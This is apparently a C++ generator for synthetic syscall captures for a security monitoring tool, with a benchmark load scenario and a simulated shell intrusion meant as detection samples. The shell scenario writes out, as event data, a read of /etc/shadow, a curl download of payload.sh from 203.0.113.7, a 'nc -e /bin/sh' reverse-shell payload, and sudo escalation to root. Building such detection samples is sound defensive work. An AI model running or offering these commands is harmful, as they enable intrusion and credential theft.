// saker-gencap: writes synthetic captures with the scapfile writer.
//  --scenario load   many processes doing file, network and process work (benchmarks)
//  --scenario shell  one interactive shell session with a few suspicious steps (samples/)
#include <cstdio>
#include <random>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <CLI/CLI.hpp>

#include "saker/scap/error.h"
#include "saker/scap/writer.h"

namespace {

using namespace saker::scap;

constexpr uint64_t kStart = 1732521600000000000ull;  // 2024-11-25 08:00:00 UTC
constexpr int64_t kAtFdcwd = -100;

struct Proc {
  uint64_t pid;
  uint64_t ppid;
  std::string comm, exe, args, cwd;
  uint32_t uid;
  int64_t next_fd = 3;
};

class Emitter {
 public:
  Emitter(Writer& w, uint16_t cpus) : w_(w), cpus_(cpus) {}
  uint64_t events() const { return events_; }

  void openat(Proc& p, const std::string& path, uint32_t flags, int64_t fd) {
    enter(306, p).num<int64_t>(kAtFdcwd).str(path).num<uint32_t>(flags).num<uint32_t>(0644);
    put();
    exit(307, p)
        .num<int64_t>(fd)
        .num<int64_t>(kAtFdcwd)
        .str(path)
        .num<uint32_t>(flags)
        .num<uint32_t>(0644)
        .num<uint32_t>(0x803)
        .num<uint64_t>(1000 + static_cast<uint64_t>(fd));
    put();
  }
  void read(Proc& p, int64_t fd, std::string_view data, uint16_t type = 6) {
    enter(type, p).num<int64_t>(fd).num<uint32_t>(static_cast<uint32_t>(data.size()));
    put();
    exit(static_cast<uint16_t>(type + 1), p)
        .num<int64_t>(static_cast<int64_t>(data.size()))
        .bytes(data.data(), data.size())
        .num<int64_t>(fd)
        .num<uint32_t>(static_cast<uint32_t>(data.size()));
    put();
  }
  void write(Proc& p, int64_t fd, std::string_view data) { read(p, fd, data, 8); }
  void close(Proc& p, int64_t fd) {
    enter(4, p).num<int64_t>(fd);
    put();
    exit(5, p).num<int64_t>(0).num<int64_t>(fd);
    put();
  }
  void socket_connect(Proc& p, int64_t fd, const uint8_t local[4], uint16_t lport, const uint8_t remote[4],
                      uint16_t rport) {
    enter(18, p).num<uint32_t>(2).num<uint32_t>(1).num<uint32_t>(0);
    put();
    exit(19, p).num<int64_t>(fd).num<uint32_t>(2).num<uint32_t>(1).num<uint32_t>(0).num<uint32_t>(0);
    put();
    uint8_t addr[7] = {2,
                       remote[0],
                       remote[1],
                       remote[2],
                       remote[3],
                       static_cast<uint8_t>(rport),
                       static_cast<uint8_t>(rport >> 8)};
    enter(22, p).num<int64_t>(fd).bytes(addr, sizeof addr);
    put();
    uint8_t tuple[13] = {2,
                         local[0],
                         local[1],
                         local[2],
                         local[3],
                         static_cast<uint8_t>(lport),
                         static_cast<uint8_t>(lport >> 8),
                         remote[0],
                         remote[1],
                         remote[2],
                         remote[3],
                         static_cast<uint8_t>(rport),
                         static_cast<uint8_t>(rport >> 8)};
    exit(23, p).num<int64_t>(0).bytes(tuple, sizeof tuple).num<int64_t>(fd).bytes(addr, sizeof addr);
    put();
  }
  void clone(Proc& parent, const Proc& child) {
    enter(222, parent);
    put();
    for (int side = 0; side < 2; ++side) {
      const Proc& self = side == 0 ? parent : child;
      auto& b = exit(223, self);
      b.num<int64_t>(side == 0 ? static_cast<int64_t>(child.pid) : 0)
          .str(parent.exe)
          .bytes(parent.args.data(), parent.args.size())
          .num<int64_t>(static_cast<int64_t>(self.pid))
          .num<int64_t>(static_cast<int64_t>(self.pid))
          .num<int64_t>(static_cast<int64_t>(side == 0 ? parent.ppid : parent.pid))
          .str(parent.cwd)
          .num<int64_t>(1024)
          .num<uint64_t>(0)
          .num<uint64_t>(100)
          .num<uint32_t>(8000)
          .num<uint32_t>(3000)
          .num<uint32_t>(0)
          .str(parent.comm)
          .bytes("cpu=/user.slice\0", 16)
          .num<uint32_t>(0x01000000)
          .num<uint32_t>(parent.uid)
          .num<uint32_t>(parent.uid)
          .num<int64_t>(static_cast<int64_t>(self.pid))
          .num<int64_t>(static_cast<int64_t>(self.pid));
      put();
    }
  }
  void execve(Proc& p, const std::string& exe, const std::vector<std::string>& argv) {
    enter(292, p).str(exe);
    put();
    p.exe = argv[0];
    p.comm = exe.substr(exe.rfind('/') + 1);
    p.args.clear();
    for (size_t i = 1; i < argv.size(); ++i) {
      p.args += argv[i];
      p.args += '\0';
    }
    auto& b = exit(293, p);
    b.num<int64_t>(0)
        .str(p.exe)
        .bytes(p.args.data(), p.args.size())
        .num<int64_t>(static_cast<int64_t>(p.pid))
        .num<int64_t>(static_cast<int64_t>(p.pid))
        .num<int64_t>(static_cast<int64_t>(p.ppid))
        .str(p.cwd)
        .num<uint64_t>(1024)
        .num<uint64_t>(0)
        .num<uint64_t>(60)
        .num<uint32_t>(5000)
        .num<uint32_t>(1200)
        .num<uint32_t>(0)
        .str(p.comm)
        .bytes("cpu=/user.slice\0", 16)
        .bytes("HOME=/root\0PATH=/usr/bin:/bin\0", 30)
        .num<uint32_t>(34816)
        .num<int64_t>(static_cast<int64_t>(p.pid))
        .num<uint32_t>(1000)
        .num<uint32_t>(0)
        .num<uint64_t>(0)
        .num<uint64_t>(0)
        .num<uint64_t>(0)
        .num<uint64_t>(4242)
        .num<uint64_t>(kStart)
        .num<uint64_t>(kStart)
        .num<uint32_t>(p.uid)
        .str(exe)
        .num<int64_t>(static_cast<int64_t>(p.pid))
        .num<uint32_t>(p.uid)
        .str(exe);
    put();
  }
  void chmod(Proc& p, const std::string& path, uint32_t mode) {
    enter(314, p);
    put();
    exit(315, p).num<int64_t>(0).str(path).num<uint32_t>(mode);
    put();
  }
  void unlink(Proc& p, const std::string& path) {
    enter(302, p);
    put();
    exit(303, p).num<int64_t>(0).num<int64_t>(kAtFdcwd).str(path).num<uint32_t>(0);
    put();
  }
  void setuid(Proc& p, uint32_t uid) {
    enter(198, p).num<uint32_t>(uid);
    put();
    exit(199, p).num<int64_t>(0).num<uint32_t>(uid);
    put();
    p.uid = uid;
  }
  void procexit(Proc& p) {
    enter(186, p).num<int64_t>(0).num<int64_t>(0).num<uint8_t>(0).num<uint8_t>(0).num<int64_t>(0);
    put();
  }

 private:
  EventBuilder& enter(uint16_t type, const Proc& p) { return begin(type, p); }
  EventBuilder& exit(uint16_t type, const Proc& p) { return begin(type, p); }
  EventBuilder& begin(uint16_t type, const Proc& p) {
    ts_ += 1000 + (events_ * 7919) % 5000;
    return b_.begin(type, ts_, p.pid, static_cast<uint16_t>(p.pid % cpus_));
  }
  void put() {
    w_.write_event(b_.view());
    ++events_;
  }

  Writer& w_;
  uint16_t cpus_;
  EventBuilder b_;
  uint64_t ts_ = kStart;
  uint64_t events_ = 0;
};

Metadata base_metadata(const std::vector<Proc>& procs) {
  Metadata m;
  m.machine = MachineInfo{4, 8ull << 30, 0, "saker-sample", kStart - 3600000000000ull, 0};
  Interface lo;
  lo.name = "lo";
  lo.addr = {127, 0, 0, 1};
  lo.netmask = {255, 0, 0, 0};
  Interface eth;
  eth.name = "eth0";
  eth.addr = {10, 0, 0, 5};
  eth.netmask = {255, 255, 255, 0};
  m.interfaces = {lo, eth};
  m.users = {{0, 0, "root", "/root", "/bin/bash"}, {1000, 1000, "alice", "/home/alice", "/bin/bash"}};
  m.groups = {{0, "root"}, {1000, "alice"}};
  for (const auto& p : procs) {
    ThreadEntry t;
    t.tid = t.pid = p.pid;
    t.ptid = p.ppid;
    t.comm = p.comm;
    t.exe = p.exe;
    t.exepath = p.exe.front() == '/' ? p.exe : "/usr/bin/" + p.exe;
    t.args = p.args;
    t.cwd = p.cwd;
    t.uid = t.gid = p.uid;
    t.fdlimit = 1024;
    t.sid = static_cast<int64_t>(p.pid);
    t.vtid = t.vpid = static_cast<int64_t>(p.pid);
    t.cgroups = std::string("cpu=/user.slice\0", 16);
    t.loginuid = p.uid;
    t.tail_len = 76;
    m.threads.push_back(t);
    FdTable fds;
    fds.tid = p.pid;
    for (int64_t fd = 0; fd < 3; ++fd) {
      FdEntry e;
      e.fd = fd;
      e.type = FdType::FileV2;
      e.name = "/dev/pts/0";
      e.open_flags = 3;
      fds.fds.push_back(e);
    }
    m.fd_tables.push_back(fds);
  }
  return m;
}

void shell_scenario(Writer& w) {
  std::vector<Proc> procs = {{1, 0, "systemd", "/sbin/init", "", "/", 0},
                             {812, 1, "sshd", "/usr/sbin/sshd", std::string("-D\0", 3), "/", 0},
                             {4100, 812, "bash", "-bash", "", "/home/alice", 1000}};
  w.begin_section(base_metadata(procs));
  Emitter e(w, 4);
  Proc& bash = procs[2];
  uint64_t next_pid = 4200;
  auto run = [&](const std::string& exe, const std::vector<std::string>& argv, auto body) {
    Proc child{next_pid++, bash.pid, bash.comm, bash.exe, bash.args, bash.cwd, bash.uid};
    e.clone(bash, child);
    e.execve(child, exe, argv);
    body(child);
    e.procexit(child);
  };
  const uint8_t local[4] = {10, 0, 0, 5};
  run("/usr/bin/id", {"id"}, [&](Proc& p) {
    e.openat(p, "/etc/passwd", 1 | (1 << 12), 3);
    e.read(p, 3, "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
    e.close(p, 3);
    e.write(p, 1, "uid=1000(alice) gid=1000(alice) groups=1000(alice)\n");
  });
  run("/usr/bin/cat", {"cat", "/etc/shadow"}, [&](Proc& p) {
    e.openat(p, "/etc/shadow", 1, 3);
    e.read(p, 3, "root:$6$Zk3...:19000:0:99999:7:::\n");
    e.write(p, 1, "root:$6$Zk3...:19000:0:99999:7:::\n");
    e.close(p, 3);
  });
  run("/usr/bin/curl", {"curl", "-s", "http://203.0.113.7/payload.sh", "-o", "/tmp/payload.sh"},
      [&](Proc& p) {
        const uint8_t remote[4] = {203, 0, 113, 7};
        e.socket_connect(p, 3, local, 51514, remote, 80);
        e.write(p, 3, "GET /payload.sh HTTP/1.1\r\nHost: 203.0.113.7\r\nUser-Agent: curl/7.88.1\r\n\r\n");
        e.read(p, 3,
               "HTTP/1.1 200 OK\r\nContent-Length: 42\r\n\r\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n");
        e.openat(p, "/tmp/payload.sh", 2 | 4 | (1 << 8), 4);
        e.write(p, 4, "#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n");
        e.close(p, 4);
        e.close(p, 3);
      });
  run("/usr/bin/chmod", {"chmod", "+x", "/tmp/payload.sh"},
      [&](Proc& p) { e.chmod(p, "/tmp/payload.sh", 0755); });
  run("/tmp/payload.sh", {"/tmp/payload.sh"}, [&](Proc& p) {
    const uint8_t remote[4] = {203, 0, 113, 7};
    e.socket_connect(p, 3, local, 40022, remote, 4444);
    e.read(p, 3, "id\n");
    e.write(p, 3, "uid=1000(alice)\n");
  });
  run("/usr/bin/sudo", {"sudo", "-i"}, [&](Proc& p) {
    e.openat(p, "/etc/sudoers", 1, 3);
    e.read(p, 3, "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n");
    e.close(p, 3);
    e.setuid(p, 0);
    e.openat(p, "/root/.bash_history", 1, 4);
    e.close(p, 4);
  });
  run("/usr/bin/rm", {"rm", "-f", "/tmp/payload.sh"}, [&](Proc& p) { e.unlink(p, "/tmp/payload.sh"); });
  std::fprintf(stderr, "shell scenario: %llu events\n", static_cast<unsigned long long>(e.events()));
}

void load_scenario(Writer& w, uint64_t target, uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::vector<Proc> procs;
  for (uint64_t i = 0; i < 256; ++i)
    procs.push_back({1000 + i, 1, fmt::format("worker{}", i % 16), "/usr/bin/worker",
                     std::string("--serve\0", 8), "/srv", 33});
  w.begin_section(base_metadata(procs));
  Emitter e(w, 4);
  const std::vector<std::string> paths = {"/etc/hosts",         "/var/log/app.log", "/srv/data/index.db",
                                          "/usr/lib/libc.so.6", "/tmp/cache.bin",   "/proc/self/status"};
  std::string payload(512, 'x');
  for (size_t i = 0; i < payload.size(); ++i) payload[i] = static_cast<char>('a' + i % 26);
  const uint8_t local[4] = {10, 0, 0, 5};
  const uint8_t remote[4] = {10, 0, 0, 9};
  uint64_t next_pid = 5000;
  uint64_t last_report = 0;
  while (e.events() < target) {
    Proc& p = procs[rng() % procs.size()];
    uint64_t r = rng() % 100;
    if (r < 60) {
      size_t n = 32 + rng() % 480;
      if (r % 2)
        e.read(p, 0, std::string_view(payload).substr(0, n));
      else
        e.write(p, 1, std::string_view(payload).substr(0, n));
    } else if (r < 85) {
      int64_t fd = 3 + static_cast<int64_t>(rng() % 8);
      e.openat(p, paths[rng() % paths.size()], 1, fd);
      e.read(p, fd, std::string_view(payload).substr(0, 128));
      e.close(p, fd);
    } else if (r < 97) {
      int64_t fd = 20;
      e.socket_connect(p, fd, local, static_cast<uint16_t>(30000 + rng() % 30000), remote, 443);
      e.write(p, fd, std::string_view(payload).substr(0, 200));
      e.close(p, fd);
    } else {
      Proc child{next_pid++, p.pid, p.comm, p.exe, p.args, p.cwd, p.uid};
      e.clone(p, child);
      e.execve(child, "/usr/bin/helper", {"helper", "--once"});
      e.procexit(child);
    }
    if (e.events() - last_report >= 1000000) {
      last_report = e.events();
      std::fprintf(stderr, "\r%llu events", static_cast<unsigned long long>(last_report));
    }
  }
  std::fprintf(stderr, "\rload scenario: %llu events\n", static_cast<unsigned long long>(e.events()));
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"saker-gencap: write a synthetic capture with Saker's writer"};
  std::string out, scenario = "load", compression = "none";
  uint64_t events = 2000000, seed = 1;
  app.add_option("-o,--output", out, "Capture to write")->required();
  app.add_option("--scenario", scenario, "load or shell")->check(CLI::IsMember({"load", "shell"}));
  app.add_option("--events", events, "Events to write (load scenario)");
  app.add_option("--seed", seed, "Random seed (load scenario)");
  app.add_option("--compress", compression, "none, gzip or zstd")
      ->check(CLI::IsMember({"none", "gzip", "zstd"}));
  CLI11_PARSE(app, argc, argv);
  try {
    WriterOptions o;
    o.compression = compression == "gzip"   ? Compression::Gzip
                    : compression == "zstd" ? Compression::Zstd
                                            : Compression::None;
    Writer w(out, o);
    if (scenario == "shell")
      shell_scenario(w);
    else
      load_scenario(w, events, seed);
    w.close();
  } catch (const CaptureError& e) {
    std::fprintf(stderr, "saker-gencap: %s\n", e.what());
    return 1;
  }
  return 0;
}
